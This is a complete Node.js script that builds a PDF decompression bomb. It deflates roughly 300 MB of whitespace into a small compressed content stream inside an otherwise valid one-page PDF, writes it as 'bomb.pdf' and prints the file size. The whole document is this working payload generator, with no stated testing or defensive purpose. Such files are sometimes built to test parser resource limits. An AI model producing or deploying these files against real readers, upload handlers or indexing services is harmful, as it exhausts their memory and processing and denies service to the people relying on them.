import zlib from 'node:zlib'; import fs from 'node:fs';
const chunk = Buffer.alloc(1 << 20, 0x20); // spaces: valid content-stream whitespace
const d = zlib.createDeflate({ level: 9 }); const parts = []; d.on('data', (c) => parts.push(c));
for (let i = 0; i < 300; i++) d.write(chunk);
d.end(); await new Promise((r) => d.on('end', r));
const data = Buffer.concat(parts);
const objs = [
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>',
];
let out = '%PDF-1.7\n'; const offs = [];
const bufs = [];
for (let i = 0; i < objs.length; i++) { offs.push(Buffer.byteLength(out)); out += `${i + 1} 0 obj\n${objs[i]}\nendobj\n`; }
offs.push(Buffer.byteLength(out));
const head = Buffer.from(out + `4 0 obj\n<< /Length ${data.length} /Filter /FlateDecode >>\nstream\n`, 'latin1');
const tailStart = head.length + data.length;
let tail = '\nendstream\nendobj\n'; const xref = tailStart + tail.length;
tail += `xref\n0 5\n0000000000 65535 f \n` + offs.map((o) => String(o).padStart(10, '0') + ' 00000 n \n').join('') + `trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
fs.writeFileSync('bomb.pdf', Buffer.concat([head, data, Buffer.from(tail, 'latin1')]));
console.log(fs.statSync('bomb.pdf').size);
